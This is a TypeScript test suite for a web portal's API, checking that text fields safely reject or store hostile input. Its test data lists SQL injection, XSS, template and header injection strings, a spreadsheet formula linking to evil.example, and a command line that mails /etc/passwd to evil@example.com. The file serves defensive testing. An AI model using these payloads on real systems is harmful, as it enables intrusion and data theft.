/** User input is never executed in the database, responses, mails or spreadsheets. See docs/product/errors.md#hostile-input. */
import { account } from '@portal/contract/account/account'
import { calls } from '@portal/contract/calls'
import type { Endpoint } from '@portal/contract/endpoint'
import { tokens } from '@portal/contract/tokens/tokens'
import { count } from 'drizzle-orm'
import { beforeEach, describe, expect, it } from 'vitest'
import { users } from '../features/account/user-table.ts'
import { useTestApp } from '../testing/build-test-app.ts'
import { startCpuTime } from '../testing/cpu-time.ts'
import { callAt, makeScene, type Scene } from '../testing/hostile-scene.ts'
import { inputSchemaOf, type Part, sampleInput, textFields, withValue } from '../testing/sample-input.ts'
import { withoutTokens } from '../testing/without-tokens.ts'

const test = useTestApp()
let scene: Scene
beforeEach(async () => {
  scene = await makeScene(test)
})

const hostileTexts: [string, string][] = [
  ['SQL that ends a text', "'; drop table users; --"],
  ['SQL that is always true', "' or '1'='1"],
  ['SQL that waits', "'||pg_sleep(5)||'"],
  ['SQL that reads another table', "' union select token from workspaces --"],
  ['SQL in a dollar quote', '$$; drop table users; $$'],
  ['the wildcards of a search', '%_\\%%%\\_'],
  ['a placeholder of a query', '$1 :name ? @p1 {0}'],
  ['HTML', '<img src=x onerror=alert(1)><script>alert(1)</script>'],
  ['the end of an attribute', '"><svg onload=alert(1)>'],
  ['a template', '{{7*7}}<%= 7*7 %>#{7*7}@(7*7)'],
  ['a header line', 'a\r\nBcc: everybody@example.com\r\n\r\nHello'],
  ['a formula', '=HYPERLINK("https://evil.example","x")'],
  ['a command', '; cat /etc/passwd | mail evil@example.com `id` $(id)'],
  ['a path', '../../../../etc/passwd'],
  ['an object of a query language', '{"$gt":""}'],
  ['text with a direction override', 'invoice\u202Efdp.exe\u202C'],
  ['text that is not seen', 'ad\u200Bmin\u200D\uFEFF\u2060'],
  ['half of a character', '\ud83d'],
  ['a character of many marks', `a${'\u0301'.repeat(200)}`],
  ['characters beyond the first plane', '𝕏𐍈🏴‍☠️'],
  ['a NUL', 'a\0b'],
  ['control characters', '\u0001\u0007\u001b[2J\u007f\u0085'],
  ['Unicode line breaks', 'a\u2028b\u2029c'],
  ['the word null', 'null'],
  ['a number too large for one', '9'.repeat(400)],
  ['a text that is hard to match', `${'a'.repeat(5_000)}!`],
  ['a text of 60 KB', 'ä'.repeat(30_000)],
]

/** The hostile texts with line breaks, control characters or marks that change the direction of text. */
const notOneLine = [
  'text that is not seen',
  'a header line',
  'text with a direction override',
  'control characters',
  'Unicode line breaks',
]
const tokenNames = hostileTexts.filter(
  ([, text]) => text.length <= 100 && !text.includes('\0') && text.isWellFormed(),
)

interface Field {
  call: Endpoint
  part: Part
  path: string[]
}

const fields: Field[] = calls.flatMap((call) =>
  (['query', 'body'] as const).flatMap((part) =>
    textFields(inputSchemaOf(call, part)).map((path) => ({ call, part, path })),
  ),
)

function send({ call, part, path }: Field, text: string) {
  const as = call.access.staff ? scene.staff : scene.owner
  const changed = withValue(sampleInput(call, part), path, text)
  return callAt(test, scene, call, {
    as,
    ...(part === 'body' ? { body: changed } : { query: changed as Record<string, string> }),
  })
}

/** Internal details that no response may contain. */
const internalDetails =
  /node_modules|\.ts:\d|\bat \w+ \(|syntax error|relation "|drizzle|postgres|FST_|root:x:/i

describe('every text field', () => {
  it('is tested, which are more than 40', () => {
    expect(fields.length).toBeGreaterThan(40)
  })

  it('has a valid sample value that the tests replace', () => {
    for (const call of calls)
      for (const part of ['query', 'body'] as const)
        expect
          .soft(call[part]?.safeParse(sampleInput(call, part)).success ?? true, `${call.name} ${part}`)
          .toBe(true)
  })

  it.each(hostileTexts)('accepts or refuses %s quickly and without harm', async (_, text) => {
    for (const field of fields) {
      const name = `${field.call.name} ${field.path.join('.')}`
      const began = performance.now()
      const cpuMs = startCpuTime()
      const response = await send(field, text)
      expect.soft(cpuMs(), name).toBeLessThan(1_000)
      if (text.includes('pg_sleep')) expect.soft(performance.now() - began, name).toBeLessThan(5_000)
      expect.soft(response.statusCode, name).toBeLessThan(500)
      expect.soft(withoutTokens(response.body), name).not.toMatch(internalDetails)
      expect.soft(response.headers['x-content-type-options'], name).toBe('nosniff')
      expect.soft(String(response.headers['content-type'] ?? ''), name).not.toContain('html')
    }
    const [people] = await test.database.orm.select({ rows: count() }).from(users)
    expect(people?.rows).toBe(4)
  })
})

describe('a saved profile', () => {
  it.each([
    ['a name with an apostrophe', { lastName: "O'Brien-Smith" }],
    ['a name in another script', { lastName: 'Żółć 山田' }],
    ['a name that is a word of SQL', { lastName: 'Null', firstName: 'Drop Table' }],
  ])('keeps %s unchanged', async (_, body) => {
    const params = { userId: scene.owner.user.id }
    const reply = await test.send(account.update, { params, body }, scene.owner)
    expect(reply.body.user).toMatchObject(body)
  })
})

describe('a token', () => {
  it.each(tokenNames.filter(([label]) => !notOneLine.includes(label)))(
    'keeps its name unchanged, apart from trimming and normalization, if the name is %s',
    async (_, name) => {
      const params = { workspaceId: scene.workspace.id }
      const reply = await test.send(tokens.create, { params, body: { name, expiration: '1d' } }, scene.owner)
      expect(reply.status).toBe(200)
      const kept = reply.body.authToken.name
      expect(kept).toBe(name.trim().normalize('NFC'))
    },
  )

  it.each(tokenNames.filter(([label]) => notOneLine.includes(label)))(
    'is not created if its name is %s',
    async (_, name) => {
      const body = { name, expiration: '1d' }
      const response = await callAt(test, scene, tokens.create, { as: scene.owner, body })
      expect(response.statusCode).toBe(400)
      expect(response.json().error.issues).toMatchObject([{ path: 'name' }])
    },
  )
})

describe('a name', () => {
  it.each([
    '<b>Pat</b>',
    'https://evil.example',
    'www.evil.example',
    'pat@evil.example',
    'evil.example/path',
    'Pat\r\nBcc: x',
    'Pat\u202Etap',
    'P\u200Bat',
    'Pat\0',
    'Pat"onload="x',
    '=1+1',
    '{{name}}',
    '`id`',
    '\u001b[31m',
  ])('%j is refused as the name of a user', async (lastName) => {
    for (const field of ['firstName', 'lastName', 'nickname'])
      expect(
        (await callAt(test, scene, account.update, { as: scene.owner, body: { [field]: lastName } }))
          .statusCode,
      ).toBe(400)
  })

  it.each([
    'javascript:alert(1)',
    'data:image/svg+xml,<svg onload=alert(1)>',
    '//evil.example/x.png',
    'https://user:password@evil.example/x.png',
    'https://evil.example/ x.png',
    'https://evil.example/\r\nx',
    'file:///etc/passwd',
    'https:evil.example',
  ])('%j is refused as a picture URL', async (pictureUrl) => {
    const response = await callAt(test, scene, account.update, { as: scene.owner, body: { pictureUrl } })
    expect(response.statusCode).toBe(400)
  })

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    'ftp://evil.example',
    'https://user:password@evil.example',
    'https://user@evil.example',
    '//evil.example',
    'https://evil.example\r\nX: y',
    'https://evil.example\\@other.example',
    'https://',
    'http://localhost:8080@evil.example',
    'vbscript:x',
  ])('%j is refused as an instance URL', async (instanceUrl) => {
    for (const [call, as] of [
      ['workspaces.create', scene.owner],
      ['workspaces.update', scene.owner],
    ] as const) {
      const found = calls.find(({ name }) => name === call)
      if (!found) throw new Error(`${call} is gone`)
      const body = { displayName: 'Mine', instanceUrl }
      expect((await callAt(test, scene, found, { as, body })).statusCode, call).toBe(400)
    }
  })
})
